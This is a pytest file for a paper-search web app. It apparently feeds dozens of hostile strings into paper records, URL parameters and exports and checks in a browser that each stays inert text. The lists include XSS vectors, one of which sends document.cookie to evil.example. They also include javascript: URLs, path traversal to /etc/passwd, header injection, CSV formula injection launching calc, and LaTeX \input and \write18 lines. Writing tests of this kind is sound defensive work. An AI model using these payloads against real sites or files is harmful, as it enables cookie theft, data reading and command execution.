"""Hostile papers and hostile addresses in a real browser: whatever they hold is text, on every view and in every export."""

import csv
import json
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlencode

import pytest

pytest.importorskip("torch", reason="pip install 'citeweave[minilm]'")
pytest.importorskip("fastapi", reason="pip install 'citeweave[serve]'")
pytest.importorskip("playwright", reason="pip install playwright")

from citeweave.corpus.ingest import import_papers
from citeweave.search.build import build_index
from citeweave.search.options import IndexOptions
from citeweave.serve.app import create_app
from citeweave.serve.options import ServeOptions

MARKUP = [
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=https://evil.example/x.js></script>", "<script/src=//evil.example/x.js>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)//",
    '"><img src=x onerror=alert(1)>', "'><img src=x onerror=alert(1)>", "<img src=https://evil.example/pixel.png>",
    "<img srcset='https://evil.example/1x 1x'>", "<svg onload=alert(1)>", "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>", "<embed src=https://evil.example/x.swf>",
    "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>", "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>", "<marquee onstart=alert(1)>", "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>", "<style>@import 'https://evil.example/x.css';</style>",
    "<div style=background:url(https://evil.example/y)>",
    "<form action=https://evil.example/><button>go</button></form>", "<a href=javascript:alert(1)>x</a>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->", "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;", "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "＜script＞alert(1)＜/script＞",
    "<\u2028script>alert(1)</script>\u2029", "<img src=x onerror=\"fetch('https://evil.example/'+document.cookie)\">",
]  # fmt: skip
ADDRESSES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)//", "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "//evil.example/x", "https://evil.example/?x",
    'doi:10.1000/x"onclick=alert(1)//', "doi:10.1000/../../evil@evil.example",
    'arxiv:1234.5678"><script>alert(1)</script>', "../../../../etc/passwd", "..\\..\\windows\\win.ini",
]  # fmt: skip
OTHERS = [
    "';alert(1);//", '";alert(1);//', "`${alert(1)}`", "{{constructor.constructor('alert(1)')()}}",
    "${7*7}#{7*7}<%= 7*7 %>", "__proto__", "constructor", "expression(alert(1))", "url(https://evil.example/z)",
    "red;background:url(https://evil.example/q)", "a\r\nSet-Cookie: stolen=1\r\n\r\n<script>alert(1)</script>",
    "\u202etxt.exe\u0007\u001b[31m", "=cmd|' /C calc'!A0", '+HYPERLINK("https://evil.example","x")',
    "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "} \\input{/etc/passwd} {", "\\write18{id}",
]  # fmt: skip
PAYLOADS = [*MARKUP, *ADDRESSES, *OTHERS]

MARKS = """() => [...document.querySelectorAll(
  "script:not([src^='page/']), iframe, object, embed, base, meta[http-equiv], style, img, video, audio, marquee, template, form[action]")]
  .concat([...document.querySelectorAll("*")].filter((one) => [...one.attributes].some(({name, value}) =>
    /^on/i.test(name) || (/^(href|src|action|xlink:href)$/.test(name) && !/^(page\\/|\\?|#|https:\\/\\/(doi\\.org|arxiv\\.org|pubmed)|blob:)/.test(value)))))
  .map((one) => one.outerHTML.slice(0, 200))"""
"""What is in the page that only markup out of the data could have put there."""


@pytest.fixture(scope="module")
def ids(tmp_path_factory: pytest.TempPathFactory, save_bert: Callable[..., Path]) -> dict[str, Any]:
    """An index in which each payload is a paper's id, title, abstract, venue, author and field."""
    place = tmp_path_factory.mktemp("hostile")
    papers = []
    for number, payload in enumerate(PAYLOADS):
        papers.append({"id": f"x{number}:{payload}", "title": f"{payload} grows", "year": 2000 + number % 20})
        papers[-1] |= {"abstract": f"{payload}. The cell grows. {payload} learns from graphs.", "venue": payload}
        papers[-1] |= {"authors": [payload, "A. Reed"], "fields": [payload]}
    (place / "papers.jsonl").write_text("".join(json.dumps(paper) + "\n" for paper in papers))
    corpus = import_papers([place / "papers.jsonl"], place / "corpus").corpus
    build_index(corpus, save_bert(place / "model"), place / "index", IndexOptions(device="cpu", sentences=True))
    return {"index": place / "index", "ids": list(corpus.ids)}


@pytest.fixture(scope="module")
def site(ids: dict[str, Any], site_of: type[Any]) -> Iterator[Any]:
    app = create_app({"main": ids["index"], "other": ids["index"]}, ServeOptions(device="cpu", time_limit=600))
    site = site_of(lambda: app).start()
    yield site
    site.stop()


def test_there_are_many_and_each_reaches_the_index(ids):
    assert len(set(PAYLOADS)) >= 60
    assert len(ids["ids"]) == len(PAYLOADS)


def test_hostile_papers_are_text_on_every_view(reader, ids):
    page = reader.open("?q=grows&by=words&count=100")
    reader.see(".card")
    assert page.locator(".card").count() >= len(PAYLOADS)
    shown = page.locator(".card h3").all_text_contents()
    assert any("<img src=x onerror=alert(1)> grows" in title for title in shown)  # markup is seen as it is written
    assert page.evaluate(MARKS) == []
    page.locator(".filters details summary").first.click()
    chosen = [ids["ids"][number] for number in range(0, len(ids["ids"]), 16)]
    for query, sign in (
        *((f"?paper={quote(id, safe='')}&s=0", "article.paper") for id in chosen),
        ("?like=" + quote(chosen[1], safe="") + "&dislike=" + quote(chosen[2], safe=""), "#main .chips button"),
        ("?view=compare&q=grows&by=words", ".columns .card"),
        ("?view=graph&paper=" + quote(chosen[0], safe=""), "[data-state]"),
        ("?view=map", "#plot[data-frame]"),
    ):
        reader.open(query)
        reader.see(sign)
        assert page.evaluate(MARKS) == [], query
    page.locator("#q").fill("grow")
    page.keyboard.type("s")
    reader.see("#suggestions li")
    assert page.evaluate(MARKS) == []
    assert "untitled" not in page.locator("#suggestions").text_content()


VIEWS = ["home", "search", "liked", "paper", "draft", "map", "graph", "compare", "samples", "lacking"]
SOFT = ["q", "s", "text", "kind", "kept", "color", "hide", "at", "focus", "outside", "venue", "field", "#"]
"""Parameters that may hold anything and leave a view to be shown."""

HARD = [*SOFT, "paper", "like", "dislike", "by", "aspect", "index", "count", "offset", "year_from", "year_to", "diversity",
        "start", "anchor"]  # fmt: skip

VISIT = """async (addresses) => {
  for (const address of addresses) {
    history.pushState({top: 0}, "", address);
    dispatchEvent(new PopStateEvent("popstate", {state: {top: 0}}));
    await new Promise((done) => setTimeout(done, 12));
  }
}"""


def test_hostile_addresses_do_nothing(reader, ids):
    """Every view with a payload in its parameters; each payload meets several views, shown or refused."""
    page = reader.open()
    reader.see(".doors")
    for at, view in enumerate(VIEWS):
        addresses = []
        for number, payload in enumerate(PAYLOADS[at % 4 :: 4]):
            values = [("view", view), *((name, payload) for name in (HARD if number % 2 else SOFT))]
            values += [] if number % 2 else [(name, ids["ids"][number]) for name in ("paper", "like")]
            addresses.append("?" + urlencode(values))
        page.evaluate(VISIT, addresses)
        assert page.evaluate(MARKS) == [], view
    for payload in PAYLOADS[::20]:  # and as a browser opens them
        reader.open(f"?view={quote(payload, safe='')}&q={quote(payload, safe='')}#{quote(payload, safe='')}")
        reader.see("[data-state]")
        assert page.evaluate(MARKS) == []


def test_exports_of_hostile_papers_are_harmless(reader, ids, tmp_path):
    told = {}
    for format, ending in (("bibtex", "bib"), ("csv", "csv"), ("json", "json")):
        answer = reader.page.request.post(reader.site.address + "export", data={"format": format, "ids": ids["ids"]})
        assert answer.status == 200 and answer.headers["x-content-type-options"] == "nosniff"
        assert answer.headers["content-disposition"] == f'attachment; filename="papers.{ending}"'
        assert "html" not in answer.headers["content-type"] and "set-cookie" not in answer.headers
        assert not any("evil.example" in value for value in answer.headers.values())
        told[ending] = answer.body().decode("utf-8")
    cells = [cell for row in csv.reader(told["csv"].splitlines(keepends=True)) for cell in row]
    assert [cell for cell in cells if cell.lstrip()[:1] in ("=", "+", "-", "@")] == []
    assert {paper["id"] for paper in json.loads(told["json"])} == set(ids["ids"])
    (tmp_path / "back.bib").write_text(told["bib"], "utf-8")
    back = import_papers(tmp_path / "back.bib", tmp_path / "back").corpus
    assert len(back) == len(ids["ids"]), "no payload ends its entry or begins another"
    assert "\\input{" not in told["bib"] and "\\write18" not in told["bib"]
